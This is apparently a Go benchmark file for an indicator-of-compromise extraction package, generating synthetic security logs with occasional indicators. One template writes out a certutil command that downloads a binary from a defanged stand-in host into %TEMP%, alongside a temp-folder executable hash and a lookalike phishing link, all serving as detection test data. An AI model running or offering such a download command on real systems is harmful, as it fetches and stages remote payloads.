package ioc

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// logLines builds n lines of realistic security-log text with sparse
// indicators: Windows command lines, sshd and web-server log lines, most of
// them without any indicator beyond the odd private address.
func logLines(n int) []string {
	r := rand.New(rand.NewPCG(7, 11))
	hosts := []string{"web01", "dc02", "fs03", "ws-0412", "build7"}
	users := []string{"alice", "bob", "svc_backup", "deploy", "SYSTEM"}
	templates := []func() string{
		func() string {
			return `C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`
		},
		func() string {
			return fmt.Sprintf(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=%d,%d --lang=en-US --renderer-client-id=%d`, r.IntN(9999), r.IntN(99999), r.IntN(99))
		},
		func() string {
			return fmt.Sprintf(`%s sshd[%d]: Accepted publickey for %s from 10.%d.%d.%d port %d ssh2`, hosts[r.IntN(len(hosts))], r.IntN(65535), users[r.IntN(len(users))], r.IntN(256), r.IntN(256), r.IntN(256), 1024+r.IntN(60000))
		},
		func() string {
			return fmt.Sprintf(`192.168.%d.%d - - [12/Jan/2024:10:%02d:%02d +0000] "GET /app/index.php?page=%d&sort=asc HTTP/1.1" 200 %d "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"`, r.IntN(256), r.IntN(256), r.IntN(60), r.IntN(60), r.IntN(100), r.IntN(99999))
		},
		func() string {
			return fmt.Sprintf(`powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Scripts\inventory_%d.ps1 -Verbose`, r.IntN(50))
		},
		func() string {
			return fmt.Sprintf(`The Windows Update service entered the running state. Installation Started: Windows has started installing the following update: KB%d`, 5000000+r.IntN(99999))
		},
	}
	sparse := []func() string{
		func() string {
			return fmt.Sprintf(`cmd.exe /c certutil -urlcache -split -f hxxp://update-check[.]example[.]net:8080/dl/%d.bin %%TEMP%%\u.exe`, r.IntN(999))
		},
		func() string {
			return fmt.Sprintf(`Sysmon: Image=C:\Users\%s\AppData\Local\Temp\x%d.exe Hashes=SHA256=%064x`, users[r.IntN(len(users))], r.IntN(99), r.Uint64())
		},
		func() string {
			return fmt.Sprintf(`Mail from %s@contoso.com to finance@fabrikam.co.uk subject "Invoice %d" link https://docs.fabrikam-share.com/s/%x`, users[r.IntN(len(users))], r.IntN(9999), r.Uint32())
		},
	}
	lines := make([]string, n)
	for i := range lines {
		if r.IntN(20) == 0 {
			lines[i] = sparse[r.IntN(len(sparse))]()
		} else {
			lines[i] = templates[r.IntN(len(templates))]()
		}
	}
	return lines
}

func benchText() string { return strings.Join(logLines(30000), "\n") }

func BenchmarkExtract(b *testing.B) {
	text := benchText()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Extract(text)
	}
}

func BenchmarkExtractAllTypes(b *testing.B) {
	text := benchText()
	all := Types()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Extract(text, all...)
	}
}

// BenchmarkExtractRows extracts line by line, as extract_iocs does per row.
func BenchmarkExtractRows(b *testing.B) {
	lines := logLines(30000)
	n := 0
	for _, l := range lines {
		n += len(l)
	}
	b.SetBytes(int64(n))
	for b.Loop() {
		for _, l := range lines {
			Extract(l)
		}
	}
}
